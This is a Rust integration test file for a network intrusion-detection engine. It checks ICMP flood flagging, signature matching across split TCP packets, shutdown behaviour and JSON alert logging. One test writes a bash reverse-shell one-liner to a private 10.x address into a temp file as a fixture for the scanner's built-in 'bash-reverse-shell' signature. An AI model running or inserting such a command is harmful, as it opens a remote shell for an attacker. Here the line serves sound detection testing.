//! Drives the whole engine over in-memory traffic.

use bobbi_watchdog::logger::{Level, Logger, SharedLogger};
use bobbi_watchdog::monitor::capture::{CaptureFilter, MemorySource, PacketSource, PacketStream};
use bobbi_watchdog::monitor::detection::IcmpThreatDetector;
use bobbi_watchdog::monitor::error::MonitorError;
use bobbi_watchdog::monitor::signatures::{MalwareDetector, Signature, SignatureSet, SubstringMatcher};
use bobbi_watchdog::monitor::supervisor::SupervisorOutcome;
use bobbi_watchdog::monitor::types::{Packet, SessionStats, ShutdownFlag};
use bobbi_watchdog::monitor::{start_monitor, MonitorConfig};

use chrono::Utc;
use std::io::Write;
use std::net::{IpAddr, Ipv4Addr};
use std::num::NonZeroU32;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

fn ip(last: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(10, 0, 0, last))
}

fn config(threshold: u32, self_addr: Option<IpAddr>, logger: SharedLogger) -> MonitorConfig {
    MonitorConfig {
        interface:      "lo0".into(),
        icmp_threshold: NonZeroU32::new(threshold).unwrap(),
        cycle_duration: Duration::from_secs(2),
        cycle_pause:    Duration::from_millis(100),
        tcp_duration:   None,
        flow_window:    4096,
        evict_interval: Duration::from_secs(10),
        self_addr,
        logger,
        stats:          SessionStats::new(),
        shutdown:       Arc::new(AtomicBool::new(false)),
    }
}

fn matcher() -> Box<SubstringMatcher> {
    Box::new(SubstringMatcher::new(vec![Signature::new("malware-sig", "malware-sig")]))
}

/// A live-looking source that never yields anything; streams only end on
/// shutdown.
struct Idle;

impl PacketSource for Idle {
    fn capture<'a>(
        &'a self,
        _interface: &str,
        _filter:    CaptureFilter,
        duration:   Option<Duration>,
        shutdown:   &ShutdownFlag,
    ) -> Result<PacketStream<'a>, MonitorError> {
        let shutdown = Arc::clone(shutdown);
        let deadline = duration.map(|d| Instant::now() + d);
        Ok(Box::new(std::iter::from_fn(move || {
            while !shutdown.load(Ordering::Relaxed) && deadline.map_or(true, |d| Instant::now() < d) {
                thread::sleep(Duration::from_millis(10));
            }
            None
        })))
    }
}

/// A live-looking source under constant load: every stream keeps yielding
/// matching packets until shutdown or its deadline.
struct Flood;

impl PacketSource for Flood {
    fn capture<'a>(
        &'a self,
        _interface: &str,
        filter:     CaptureFilter,
        duration:   Option<Duration>,
        shutdown:   &ShutdownFlag,
    ) -> Result<PacketStream<'a>, MonitorError> {
        let shutdown = Arc::clone(shutdown);
        let deadline = duration.map(|d| Instant::now() + d);
        let mut seq: u16 = 0;
        Ok(Box::new(std::iter::from_fn(move || {
            if shutdown.load(Ordering::Relaxed) || deadline.is_some_and(|d| Instant::now() >= d) {
                return None;
            }
            thread::sleep(Duration::from_micros(200));
            seq = seq.wrapping_add(1);
            Some(match filter {
                CaptureFilter::Icmp => Packet::icmp(ip(7), ip(1), Utc::now()),
                CaptureFilter::Tcp => {
                    let payload: &[u8] = if seq % 50 == 0 { b"..malware-sig.." } else { b"GET / HTTP/1.1" };
                    Packet::tcp(ip(9), 1024 + seq % 8, ip(1), 80, payload.to_vec(), Utc::now())
                }
            })
        })))
    }
}

#[test]
fn icmp_cycle_flags_only_sources_above_threshold() {
    let mut packets: Vec<Packet> = (0..4).map(|_| Packet::icmp(ip(5), ip(1), Utc::now())).collect();
    packets.extend((0..2).map(|_| Packet::icmp(ip(6), ip(1), Utc::now())));
    let source = MemorySource::new(packets);

    let detector = IcmpThreatDetector::new(NonZeroU32::new(3).unwrap(), None, Logger::silent());
    let shutdown = Arc::new(AtomicBool::new(false));
    let report = detector.run_cycle(&source, "lo0", Duration::from_secs(2), &shutdown);

    let flagged: Vec<IpAddr> = report.threats.iter().map(|t| t.source).collect();
    assert_eq!(flagged, vec![ip(5)]);
    assert_eq!(report.threats[0].count, 4);
}

#[test]
fn split_signature_raises_one_alert_through_the_engine() {
    let source: Arc<dyn PacketSource> = Arc::new(MemorySource::new(vec![
        Packet::tcp(ip(9), 5000, ip(1), 80, b"mal".to_vec(), Utc::now()),
        Packet::tcp(ip(9), 5000, ip(1), 80, b"ware-sig".to_vec(), Utc::now()),
        Packet::tcp(ip(9), 5000, ip(1), 80, b"...malware-sig again".to_vec(), Utc::now()),
    ]));
    let cfg = config(50, None, Logger::silent());
    let stats = Arc::clone(&cfg.stats);

    let outcome = start_monitor(cfg, source, matcher()).unwrap();

    assert_eq!(outcome, SupervisorOutcome::WorkersStopped);
    assert_eq!(stats.malware_alerts.load(Ordering::Relaxed), 1);
    assert_eq!(stats.total_flows_tracked.load(Ordering::Relaxed), 1);
    assert_eq!(stats.icmp_cycles.load(Ordering::Relaxed), 1);
}

#[test]
fn own_traffic_is_ignored_by_both_detectors() {
    let me = ip(1);
    let mut packets: Vec<Packet> = (0..10).map(|_| Packet::icmp(me, ip(2), Utc::now())).collect();
    packets.push(Packet::tcp(ip(9), 5000, me, 80, b"malware-sig".to_vec(), Utc::now()));
    let source: Arc<dyn PacketSource> = Arc::new(MemorySource::new(packets));

    let cfg = config(1, Some(me), Logger::silent());
    let stats = Arc::clone(&cfg.stats);
    start_monitor(cfg, source, matcher()).unwrap();

    assert_eq!(stats.threats_flagged.load(Ordering::Relaxed), 0);
    assert_eq!(stats.malware_alerts.load(Ordering::Relaxed), 0);
}

#[test]
fn interrupt_ends_supervision_promptly() {
    let cfg = config(50, None, Logger::silent());
    let shutdown = Arc::clone(&cfg.shutdown);

    let trigger = Arc::clone(&shutdown);
    let canceller = thread::spawn(move || {
        thread::sleep(Duration::from_millis(300));
        trigger.store(true, Ordering::SeqCst);
    });

    let started = Instant::now();
    let outcome = start_monitor(cfg, Arc::new(Idle), matcher()).unwrap();

    assert_eq!(outcome, SupervisorOutcome::Cancelled);
    assert!(started.elapsed() < Duration::from_secs(4));
    canceller.join().unwrap();
}

#[test]
fn interrupt_under_load_ends_both_workers() {
    let cfg = config(50, None, Logger::silent());
    let shutdown = Arc::clone(&cfg.shutdown);
    let stats = Arc::clone(&cfg.stats);

    let trigger = Arc::clone(&shutdown);
    let canceller = thread::spawn(move || {
        thread::sleep(Duration::from_millis(300));
        trigger.store(true, Ordering::SeqCst);
    });

    let started = Instant::now();
    let outcome = start_monitor(cfg, Arc::new(Flood), matcher()).unwrap();

    assert_eq!(outcome, SupervisorOutcome::Cancelled);
    assert!(started.elapsed() < Duration::from_secs(4));
    assert!(stats.packets_total.load(Ordering::Relaxed) > 0);
    assert!(stats.malware_alerts.load(Ordering::Relaxed) > 0);
    canceller.join().unwrap();
}

#[test]
fn alerts_reach_the_log_file_as_json() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("network_log.txt");
    let logger: SharedLogger =
        Arc::new(Logger::new(true, path.to_str(), Level::Info).unwrap());

    let source: Arc<dyn PacketSource> = Arc::new(MemorySource::new(vec![
        Packet::tcp(ip(9), 5000, ip(1), 80, b"xxmalware-sig".to_vec(), Utc::now()),
    ]));
    start_monitor(config(50, None, Arc::clone(&logger)), source, matcher()).unwrap();
    logger.flush();

    let contents = std::fs::read_to_string(&path).unwrap();
    let alert = contents
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|v| v["event"] == "malware_detected")
        .expect("no malware_detected line");
    assert_eq!(alert["signature"], "malware-sig");
    assert_eq!(alert["flow"], "10.0.0.9:5000-10.0.0.1:80");
    assert_eq!(alert["offset"], 2);
}

#[test]
fn file_scan_reports_each_signature_once() {
    let mut file = tempfile::NamedTempFile::new().unwrap();
    file.write_all(b"header bash -i >& /dev/tcp/10.0.0.9/4444 0>&1 and again bash -i >& /dev/tcp/")
        .unwrap();

    let matcher = SignatureSet::matcher(SignatureSet::builtin()).unwrap();
    let detector = MalwareDetector::new(matcher, 4096, Logger::silent());
    let verdict = detector.analyze_file(file.path()).unwrap();

    assert!(verdict.is_malware);
    assert_eq!(verdict.details.len(), 1);
    assert_eq!(verdict.details[0].id, "bash-reverse-shell");
    assert_eq!(verdict.details[0].offset, 7);
}
